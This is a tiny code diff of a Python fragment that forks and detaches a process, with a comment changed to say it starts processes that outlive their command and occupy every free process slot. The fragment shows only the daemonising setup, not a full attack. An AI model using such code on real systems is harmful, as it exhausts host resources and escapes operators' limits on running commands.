@@ -1,4 +1,4 @@
-# Processes that outlive their command and occupy every slot that becomes free.
+# Start processes that outlive their command and occupy every process slot that becomes free.
 if os.fork() == 0:
     os.setsid()
     null = os.open("/dev/null", os.O_RDWR)
